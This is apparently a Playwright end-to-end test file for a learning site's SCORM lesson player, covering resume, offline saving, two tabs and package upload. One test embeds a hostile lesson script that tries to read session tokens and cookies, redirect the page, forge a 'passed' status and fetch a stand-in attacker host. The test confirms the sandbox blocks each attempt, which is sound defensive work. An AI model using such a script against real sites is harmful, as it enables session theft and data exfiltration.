// SCORM packages in the browser: uploaded by a teacher, run on a phone and at a desk, resumed, finished while the line is cut or the tab is closed, in
// two tabs; and one that means harm, which reaches neither the page nor a login nor the API.
import { expect, test } from 'vitest';
import type { Page } from '@playwright/test';
import { words } from '#features/scorm/words.ts';
import { words as syllabus } from '#features/syllabus/words.ts';
import { lessonPage, makePackage, manifestOf, zipOf } from '#features/scorm/test/make.ts';
import { newCourse, newItem, newLearnerOf, newPartner, type Partner } from './course-made.ts';
import { visit } from './settled.ts';
import { enter, journeyOf, openPhone, standing } from './site.ts';

const { site, browser } = await standing();
const pages = [
  { title: 'প্রথম পাতা', text: 'সাবান দিয়ে বিশ সেকেন্ড।' },
  { title: 'দ্বিতীয় পাতা', text: 'পরিষ্কার পানিতে ধুয়ে নিন।' },
];
const asked = { ask: 'কতক্ষণ?', right: 'বিশ সেকেন্ড', wrong: ['দুই সেকেন্ড'] };
const said = { next: 'পরের পাতা', place: '{n} / {all}', yes: 'ঠিক', no: 'আরেকবার দেখুন' };
const page_of = lessonPage(pages, asked, said);

/** Uploads a package as the editor does, and writes it into a lesson. */
async function lessonWith(partner: Partner, course_id: number, zip: Uint8Array, title: string): Promise<void> {
  const item = await newItem(partner, course_id, 'scorm', title);
  const form = new FormData();
  form.append('file', new Blob([zip as Uint8Array<ArrayBuffer>], { type: 'application/zip' }), 'package.zip');
  const response = await fetch(`${site.url}/api/file-manager/user/upload-file`, {
    method: 'POST',
    headers: { authorization: `Bearer ${partner.token}` },
    body: form,
  });
  const { data: entry } = (await response.json()) as { data: { id: number } };
  await partner.api.post('/course/syllabus/scorm', { file_id: entry.id });
  const file = await partner.api.post<{ id: number }>('/course/syllabus/file', { id: item.id, file_id: entry.id });
  const { version } = await partner.api.get<{ version: number }>(`/course/syllabus/lesson/${item.id}`);
  const files = JSON.stringify([{ file: file.id, role: 'package' }]);
  await partner.api.put('/course/syllabus/lesson/save', { id: item.id, since: version, fields: { files } });
}
async function standingCourse(zip: Uint8Array) {
  const partner = await newPartner(site);
  const course_id = await newCourse(partner, 'প্যাকেজ');
  await lessonWith(partner, course_id, zip, 'হাত ধোয়া');
  const learner = await newLearnerOf(site, partner, course_id);
  const { uuid, lessons } = await journeyOf(learner.api, String(course_id));
  const id = lessons[0]!.id;
  const own = () => learner.api.get<{ status: string | null; score: number | null; done: boolean }>(`/learner-course/scorm/${id}`);
  const state = async () => (await journeyOf(learner.api, String(course_id))).lessons[0]!.state;
  return { learner, id, own, state, url: `${site.url}/course/journey/${uuid}?lesson=${id}` };
}
const inside = (page: Page) => page.frameLocator('iframe.scorm-frame').frameLocator('iframe');
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

test.each(['1.2', '2004'] as const)(
  'a lesson of SCORM %s is begun on a phone, goes on at a desk where it stopped, and is done when it says so',
  { tags: ['long'] },
  async (version) => {
    const here = await standingCourse(await makePackage(version, page_of));
    const phone = await openPhone(browser, site);
    await enter(site, phone.context, here.learner);
    await visit(phone.page, here.url);
    await button(phone.page, words.begin.bn).click();
    await inside(phone.page).getByRole('heading', { name: pages[0]!.title }).waitFor();
    expect(await inside(phone.page).locator('body').getAttribute('data-entry')).toBe('ab-initio');
    // the beginning alone is a save too, and is "incomplete" as well
    const kept = phone.page.waitForResponse(
      (r) => r.url().endsWith('/save') && /location[\\"]+:[\\"]+1/.test(r.request().postData() ?? ''),
    );
    await inside(phone.page).getByRole('button', { name: said.next }).click();
    await inside(phone.page).getByRole('heading', { name: pages[1]!.title }).waitFor();
    expect((await kept).status()).toBe(200);
    expect((await here.own()).status).toBe('incomplete');
    expect(await phone.page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
    expect(phone.faults).toEqual([]);
    await phone.context.close();

    const desk = await openPhone(browser, site, { width: 1280, height: 900, language: 'en' });
    await enter(site, desk.context, here.learner);
    await visit(desk.page, here.url);
    await button(desk.page, words.go_on.en).click();
    await inside(desk.page).getByRole('heading', { name: pages[1]!.title }).waitFor();
    expect(await inside(desk.page).locator('body').getAttribute('data-entry')).toBe('resume');
    await inside(desk.page).getByRole('button', { name: said.next }).click();
    await inside(desk.page).getByRole('button', { name: asked.wrong[0]! }).click();
    await desk.page.getByText(words.states.failed.en).first().waitFor();
    expect(await here.state()).not.toBe('done');
    await inside(desk.page).getByRole('button', { name: asked.right }).click();
    await desk.page.getByText(words.states.passed.en).first().waitFor();
    await expect.poll(here.state).toBe('done');
    expect(await here.own()).toMatchObject({ status: 'passed', score: 100, done: true });
    expect(desk.faults).toEqual([]);
    await desk.context.close();
  },
);

test('what was reached while the line was cut is kept on the phone and arrives; a tab that is closed has saved what was set last', {
  tags: ['long'],
}, async () => {
  const here = await standingCourse(await makePackage('1.2', page_of));
  const phone = await openPhone(browser, site);
  await enter(site, phone.context, here.learner);
  await visit(phone.page, here.url);
  await button(phone.page, words.begin.bn).click();
  await inside(phone.page).getByRole('button', { name: said.next }).click();
  await inside(phone.page).getByRole('heading', { name: pages[1]!.title }).waitFor();
  await expect.poll(async () => (await here.own()).status).toBe('incomplete');
  await phone.context.setOffline(true);
  await inside(phone.page).getByRole('button', { name: said.next }).click();
  await inside(phone.page).getByRole('button', { name: asked.right }).click();
  await phone.page.locator('[class="kept kept"]').waitFor();
  expect(await here.state()).not.toBe('done');
  await phone.context.setOffline(false);
  await phone.page.evaluate("dispatchEvent(new Event('online'))");
  await expect.poll(here.state).toBe('done');
  await phone.context.close();

  // sets a value, asks for no save, and its tab is closed
  const silent = page_of.replace('save(); show();', 'show();');
  const other = await standingCourse(await makePackage('1.2', silent));
  const tab = await openPhone(browser, site, { width: 1280, height: 900 });
  await enter(site, tab.context, other.learner);
  await visit(tab.page, other.url);
  await button(tab.page, words.begin.bn).click();
  await inside(tab.page).getByRole('button', { name: said.next }).click();
  await inside(tab.page).getByRole('heading', { name: pages[1]!.title }).waitFor();
  await tab.page.close({ runBeforeUnload: true });
  await expect
    .poll(async () => {
      const { launches } = await other.learner.api.post<{ launches: { cmi: string }[] }>(`/learner-course/scorm/${other.id}/open`);
      return (JSON.parse(launches[0]!.cmi || '{}') as Record<string, string>)['cmi.core.lesson_location'];
    })
    .toBe('1');
  await tab.context.close();
});

test('of two tabs the one that was opened last goes on; the other says so, and can take over', { tags: ['long'] }, async () => {
  const here = await standingCourse(await makePackage('1.2', page_of));
  const { context, page } = await openPhone(browser, site);
  await enter(site, context, here.learner);
  await visit(page, here.url);
  await button(page, words.begin.bn).click();
  await inside(page).getByRole('heading', { name: pages[0]!.title }).waitFor();
  await expect.poll(async () => (await here.own()).status).toBe('incomplete');
  const second = await context.newPage();
  await visit(second, here.url);
  await button(second, words.go_on.bn).click();
  await inside(second).getByRole('button', { name: said.next }).click();
  await inside(second).getByRole('heading', { name: pages[1]!.title }).waitFor();
  await inside(page).getByRole('button', { name: said.next }).click();
  await page.getByText(words.elsewhere.bn).waitFor();
  await button(page, words.continue_here.bn).click();
  await inside(page).getByRole('heading', { name: pages[1]!.title }).waitFor();
  await context.close();
});

test('a package that means harm reaches neither the page around it nor a login, a cookie or the API', { tags: ['long'] }, async () => {
  const hostile = `<!doctype html><html><body><p id="told">…</p><script>
    var told = {};
    function attempt(name, work) { try { var got = work(); told[name] = got === undefined || got === null ? 'nothing' : 'reached: ' + got; } catch (e) { told[name] = e.name; } }
    attempt('page', function () { return window.top.document.title; });
    attempt('around', function () { return parent.parent.document.body.innerHTML; });
    attempt('storage', function () { return window.top.localStorage.getItem('shikhon.session'); });
    attempt('own login', function () { return localStorage.getItem('shikhon.session'); });
    attempt('cookie', function () { return document.cookie || null; });
    attempt('address', function () { window.top.location.href = 'https://evil.test/'; });
    parent.parent.postMessage({ scorm: 'said', part: 'one', seq: 99, cmi: JSON.stringify({ 'cmi.core.lesson_status': 'passed' }) }, '*');
    parent.parent.postMessage({ scorm: 'ready' }, '*');
    var site = new URLSearchParams(location.search).get('site');
    function fetched(name, url, options) {
      return fetch(url, options).then(function (r) { told[name] = 'answered ' + r.status; }, function (e) { told[name] = e.name; });
    }
    Promise.all([
      fetched('api', site + '/api/my-account/user/view-info', { credentials: 'include' }),
      fetched('api here', '/api/my-account/user/view-info', { credentials: 'include' }),
      fetched('page here', '/'),
      fetched('elsewhere', 'https://evil.test/collect?x=1'),
      navigator.serviceWorker ? navigator.serviceWorker.register('worker.js').then(function () { told.worker = 'registered'; }, function (e) { told.worker = e.name; }) : 0,
    ]).then(function () { document.getElementById('told').textContent = JSON.stringify(told); });
  </script></body></html>`;
  const parameters = `?site=${encodeURIComponent(site.url)}`;
  const zip = await zipOf([
    ['imsmanifest.xml', manifestOf('1.2', 'X', [{ id: 'one', title: 'X', href: 'index.html', parameters }])],
    ['index.html', hostile],
    ['worker.js', 'self.onfetch = function () {}'],
  ]);
  const here = await standingCourse(zip);
  const { context, page } = await openPhone(browser, site, { width: 1280, height: 900, worker: true });
  await enter(site, context, here.learner);
  const asked_elsewhere: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('evil.test')) asked_elsewhere.push(request.url());
  });
  const with_cookie: string[] = [];
  context.on('request', async (request) => {
    const { cookie } = await request.allHeaders().catch(() => ({}) as Record<string, string>);
    if (new URL(request.url()).host.includes('.packages.') && cookie) with_cookie.push(request.url());
  });
  await visit(page, here.url);
  await button(page, words.begin.bn).click();
  const told = inside(page).locator('#told');
  await expect.poll(() => told.textContent()).toContain('elsewhere');
  expect(JSON.parse((await told.textContent())!)).toEqual({
    ...{ page: 'SecurityError', around: 'SecurityError', storage: 'SecurityError', address: 'SecurityError' },
    ...{ 'own login': 'nothing', cookie: 'nothing' },
    ...{ api: 'TypeError', 'api here': 'answered 404', 'page here': 'answered 404', elsewhere: 'TypeError' },
    worker: expect.not.stringMatching(/registered/),
  });
  expect(page.url()).toBe(here.url);
  expect([asked_elsewhere, with_cookie]).toEqual([[], []]);
  // what it said to the page by itself was not heard
  await page.locator('[class="kept saved"]').waitFor();
  expect(await here.own()).toMatchObject({ status: null, done: false });
  // its host has nothing of the site, and the site nothing of its host
  const frame = page.frames().find((one) => one.url().includes('index.html'))!;
  const { host, pathname } = new URL(frame.url());
  expect((await fetch(`${site.url}/packages-host${pathname}`)).status).toBe(404);
  expect(host).toMatch(/^[0-9a-f]{32}\.packages\.localhost/);
  await context.close();
});

test('a teacher chooses a package in the syllabus; one that is none is told at once, and the lesson is ready with a right one', async () => {
  const partner = await newPartner(site);
  const course_id = await newCourse(partner, 'প্যাকেজ নেওয়া');
  const item = await newItem(partner, course_id, 'scorm', 'হাত ধোয়া');
  const { context, page, faults } = await openPhone(browser, site);
  await enter(site, context, partner);
  await visit(page, `${site.url}/course/edit/${course_id}/syllabus`);
  await page.locator(`[data-open="${item.id}"]`).click();
  const panel = page.locator('.syl-panel');
  await panel.getByText(syllabus.no_package.bn).waitFor();
  const take = (name: string, buffer: Buffer) =>
    panel.locator('.syl-files input[type=file]').first().setInputFiles({ name, mimeType: 'application/zip', buffer });
  await take('none.zip', await zipOf([['notes.txt', 'x']]));
  await page
    .getByText(/imsmanifest\.xml/)
    .first()
    .waitFor();
  await panel.getByText(syllabus.no_package.bn).waitFor();
  await take('course.zip', await makePackage('2004', page_of));
  await panel.getByText('course.zip').first().waitFor();
  await panel.getByText(syllabus.no_package.bn).waitFor({ state: 'detached' });
  await expect
    .poll(async () =>
      JSON.parse((await partner.api.get<{ fields: { files?: string } }>(`/course/syllabus/lesson/${item.id}`)).fields.files || '[]'),
    )
    .toMatchObject([{ role: 'package' }]);
  expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
  await context.close();
  expect(faults).toEqual([]);
});
